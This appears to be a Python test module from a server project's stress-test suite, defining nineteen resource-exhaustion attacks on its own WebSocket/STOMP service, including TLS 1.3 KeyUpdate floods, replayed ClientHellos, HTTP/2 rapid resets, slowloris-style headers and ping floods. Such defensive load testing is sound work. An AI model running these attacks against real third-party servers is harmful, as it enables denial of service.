"""Attacks that are costly for a server and cheap for the attacker, each over one open connection (``COSTLY``).

An attack gets a stream and its own random numbers. When it returns, its caller closes the stream and may start it again
on a new one. ``tests.drill.attackers`` runs many at a time; ``tests.drill.test_attacks`` measures each by itself.
"""

import hashlib
import hmac
import random
import re
import ssl
import struct
import tempfile
from collections.abc import Awaitable, Callable
from contextlib import suppress
from typing import Final

import jwt
import trio
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

from tests.websocket.test_battery import PING, PONG, TEXT, frame
from tests.websocket.test_request import head

JWT_SECRET: Final = "a secret of thirty-two octets, at least"
USER: Final = jwt.encode({"sub": "user"}, JWT_SECRET, algorithm="HS256")
"""The token of honest clients, and of every attacker except one. It is used as a web token and as a fixed token."""
SURROGATE: Final = jwt.encode({"sub": "odd", "airy_channels": ["\ud800"]}, JWT_SECRET, algorithm="HS256")
QUIET: Final = "/events/channel/quiet-%d"
"""Channels without an event: a replay searches all retained events and finds nothing."""
HOLD_S: Final = 2.0
LONG: Final = "n" * 8000
ACKS: Final = 400
PINGS_BYTES: Final = 759 * 1024
SUBSCRIPTIONS: Final = 16
KEY_UPDATES: Final = 4000
RECORD, KEY_UPDATE = b"\x17\x03\x03\0\x16", b"\x18\0\0\1\0\x16"
"""An encrypted record of TLS 1.3: its header, and its content, a KeyUpdate that requests no answer, with the type."""
READ_BYTES: Final = 65_536

Attack = Callable[[trio.SocketStream, random.Random], Awaitable[None]]


def stomp(command: str, body: str = "", **headers: object) -> bytes:
    """Return a STOMP frame in a WebSocket frame. An underscore in a header's name becomes a hyphen."""
    lines = [command, *(f"{name.replace('_', '-')}:{value}" for name, value in headers.items())]
    return frame(TEXT, ("\n".join(lines) + f"\n\n{body}\0").encode())


def reset_at_close(stream: trio.SocketStream) -> None:
    """Make this connection end with a reset."""
    stream.setsockopt(trio.socket.SOL_SOCKET, trio.socket.SO_LINGER, struct.pack("ii", 1, 0))


async def upgraded(stream: trio.SocketStream) -> None:
    await stream.send_all(head())
    await stream.receive_some()


async def connected(stream: trio.SocketStream, token: str = USER) -> None:
    await upgraded(stream)
    await stream.send_all(stomp("CONNECT", accept_version="1.2", passcode=token))
    await stream.receive_some()


async def drain(stream: trio.SocketStream, seconds: float = HOLD_S) -> None:
    """Read and drop the server's output until it closes the connection, at most for some seconds."""
    with trio.move_on_after(seconds):
        while await stream.receive_some(READ_BYTES):
            pass


async def position_of(stream: trio.SocketStream) -> tuple[str, int]:
    """Subscribe without a replay; return the epoch and the newest offset, from the receipt."""
    await stream.send_all(stomp("SUBSCRIBE", id="now", destination="/events", replay="none", receipt="now"))
    data = b""
    while not (found := re.search(rb"\nposition:(\w+)-(\d+)\n", data)):
        if not (more := await stream.receive_some(READ_BYTES)):
            raise trio.BrokenResourceError
        data += more
    return found[1].decode(), int(found[2])


async def replays_of_a_quiet_channel(stream: trio.SocketStream, chance: random.Random) -> None:
    await connected(stream)
    epoch, _ = await position_of(stream)
    for number in range(8):
        quiet = QUIET % chance.randrange(1000)
        await stream.send_all(stomp("SUBSCRIBE", id=number, destination=quiet, last_event_id=f"{epoch}-1"))
    await drain(stream)


async def acknowledgements_with_long_ids(stream: trio.SocketStream, _chance: random.Random) -> None:
    await connected(stream)
    await stream.send_all(stomp("SUBSCRIBE", id="0", destination="/events", ack="client", replay="none"))
    await stream.send_all(stomp("BEGIN", transaction="t"))
    for number in range(ACKS):
        await stream.send_all(stomp("ACK", id=f"{number}{LONG}", transaction="t"))
    await drain(stream)


async def comes_and_goes(stream: trio.SocketStream, _chance: random.Random) -> None:
    await connected(stream)
    await stream.send_all(stomp("SUBSCRIBE", id="0", destination="/events", replay="none"))


async def key_updates(stream: trio.SocketStream, _chance: random.Random) -> None:
    """Send TLS records without content. Each one makes the server derive a key."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.minimum_version = ssl.TLSVersion.TLSv1_3
    with tempfile.NamedTemporaryFile() as keys:
        context.keylog_filename = keys.name
        tls = trio.SSLStream(stream, context)
        await tls.do_handshake()
        found = re.search(rb"CLIENT_TRAFFIC_SECRET_0 \w+ (\w+)", keys.read())
    cipher = tls.cipher()
    assert found is not None
    assert cipher is not None
    secret, digest = bytes.fromhex(found[1].decode()), cipher[0].rpartition("_")[2].lower()
    key_bytes = 32 if "256_GCM" in cipher[0] else 16
    for _ in range(KEY_UPDATES // 100):
        records = []
        for _ in range(100):
            key, nonce = expanded(secret, "key", key_bytes, digest), expanded(secret, "iv", 12, digest)
            records.append(RECORD + AESGCM(key).encrypt(nonce, KEY_UPDATE, RECORD))
            secret = expanded(secret, "traffic upd", len(secret), digest)
        await stream.send_all(b"".join(records))


def expanded(secret: bytes, label: str, size: int, digest: str) -> bytes:
    """Return HKDF-Expand-Label of RFC 8446, for at most one block."""
    name = f"tls13 {label}".encode()
    info = size.to_bytes(2) + bytes([len(name)]) + name + b"\0"
    return hmac.digest(secret, info + b"\x01", getattr(hashlib, digest))[:size]


async def replayed_hellos(stream: trio.SocketStream, _chance: random.Random) -> None:
    """Replay the ClientHello of another connection: the server has to sign, and this client computes nothing."""
    await stream.send_all(HELLO)
    await stream.receive_some()
    reset_at_close(stream)


def client_hello() -> bytes:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    sent = ssl.MemoryBIO()
    with suppress(ssl.SSLWantReadError):
        context.wrap_bio(ssl.MemoryBIO(), sent).do_handshake()
    return sent.read()


HELLO: Final = client_hello()


async def holds_a_connection(stream: trio.SocketStream, _chance: random.Random) -> None:
    await connected(stream)
    await drain(stream, 60)


async def small_control_frames(stream: trio.SocketStream, chance: random.Random) -> None:
    await connected(stream)
    one = frame(chance.choice((PING, PONG)))
    async with trio.open_nursery() as nursery:
        nursery.start_soon(drain, stream)
        await stream.send_all(one * (PINGS_BYTES // len(one)))


async def subscribes_over_a_hot_tail(stream: trio.SocketStream, chance: random.Random) -> None:
    await connected(stream)
    for _ in range(20):
        number = chance.randrange(1000)
        await stream.send_all(stomp("SUBSCRIBE", id=number, destination=QUIET % number, receipt="r"))
        await stream.receive_some(READ_BYTES)
        await stream.send_all(stomp("UNSUBSCRIBE", id=number))


async def long_names(stream: trio.SocketStream, _chance: random.Random) -> None:
    await connected(stream)
    for number in range(SUBSCRIPTIONS):
        there = f"/events/channel/{number}{LONG}"
        await stream.send_all(stomp("SUBSCRIBE", id=f"{number}{LONG}", destination=there, replay="none"))
    await drain(stream)


async def vanishes(stream: trio.SocketStream, _chance: random.Random) -> None:
    """Vanish like a machine without power: no heart-beats, no answers, no end of the connection."""
    await connected(stream)
    await stream.send_all(stomp("SUBSCRIBE", id="0", destination="/events/channel/quiet", replay="none"))
    await trio.sleep(60)


async def subscribes_many_times(stream: trio.SocketStream, _chance: random.Random) -> None:
    await connected(stream)
    for number in range(SUBSCRIPTIONS):
        await stream.send_all(stomp("SUBSCRIBE", id=number, destination="/events", replay="none"))
    await drain(stream, 60)


async def costly_pages(stream: trio.SocketStream, chance: random.Random) -> None:
    """Attack the admin port: a request without an end, resets of HTTP/2, or the most expensive page."""
    match chance.randrange(3):
        case 0:
            await stream.send_all(b"GET /metrics HTTP/1.1\r\nHost: localhost\r\n")
            for _ in range(20):
                await stream.send_all(b"x")
                await trio.sleep(0.1)
        case 1:
            await stream.send_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0")
            for number in range(1, 4000, 2):
                asks = b"\0\0\x04\x01\x05" + number.to_bytes(4) + b"\x82\x84\x86\x01"[:3] + b"\x84"
                await stream.send_all(asks + b"\0\0\x04\x03\0" + number.to_bytes(4) + b"\0\0\0\x08")
        case _:
            for _ in range(20):
                await stream.send_all(b"GET /api/connections HTTP/1.1\r\nHost: localhost\r\n\r\n")
            await drain(stream)


async def one_octet_and_reset(stream: trio.SocketStream, _chance: random.Random) -> None:
    await stream.send_all(b"G")
    reset_at_close(stream)


async def resumes_from_old_positions(stream: trio.SocketStream, chance: random.Random) -> None:
    await connected(stream)
    epoch, newest = await position_of(stream)
    old = f"{epoch}-{chance.randrange(1, newest)}"
    await stream.send_all(stomp("SUBSCRIBE", id="0", destination="/events", last_event_id=old))
    await drain(stream)


async def claims_and_releases_durables(stream: trio.SocketStream, chance: random.Random) -> None:
    await connected(stream)
    name = chance.randrange(100)
    for _ in range(20):
        await stream.send_all(
            stomp("SUBSCRIBE", id="0", destination="/events", ack="client", durable=name, replay="none", receipt="r")
        )
        await stream.receive_some(READ_BYTES)
        await stream.send_all(stomp("UNSUBSCRIBE", id="0"))


async def wide_windows(stream: trio.SocketStream, _chance: random.Random) -> None:
    await connected(stream)
    epoch, _ = await position_of(stream)
    for number in range(SUBSCRIPTIONS - 1):
        await stream.send_all(
            stomp("SUBSCRIBE", id=number, destination="/events", ack="client", prefetch_count=10_000,
                  last_event_id=f"{epoch}-1")
        )  # fmt: skip
    await drain(stream, 60)


async def sends_after_the_end(stream: trio.SocketStream, _chance: random.Random) -> None:
    """End the session by a fault, and send small frames while the server waits for the answer to its Close."""
    await connected(stream)
    await stream.send_all(stomp("SEND", "{}", destination="/events"))
    await stream.send_all(frame(TEXT, b"\n") * 100_000)
    await drain(stream)


async def head_octet_by_octet(stream: trio.SocketStream, _chance: random.Random) -> None:
    for octet in head("X: " + "x" * 3000):
        await stream.send_all(bytes([octet]))
        await trio.lowlevel.checkpoint()


async def channel_not_text(stream: trio.SocketStream, _chance: random.Random) -> None:
    """Use a token that grants a channel with half a character as its name."""
    await connected(stream, SURROGATE)
    await stream.send_all(stomp("SUBSCRIBE", id="0", destination="/events", replay="none"))
    await drain(stream)


COSTLY: Final[dict[str, Attack]] = {
    attack.__name__: attack
    for attack in (
        replays_of_a_quiet_channel,
        acknowledgements_with_long_ids,
        comes_and_goes,
        key_updates,
        replayed_hellos,
        holds_a_connection,
        small_control_frames,
        subscribes_over_a_hot_tail,
        long_names,
        vanishes,
        subscribes_many_times,
        costly_pages,
        one_octet_and_reset,
        resumes_from_old_positions,
        claims_and_releases_durables,
        wide_windows,
        sends_after_the_end,
        head_octet_by_octet,
        channel_not_text,
    )
}
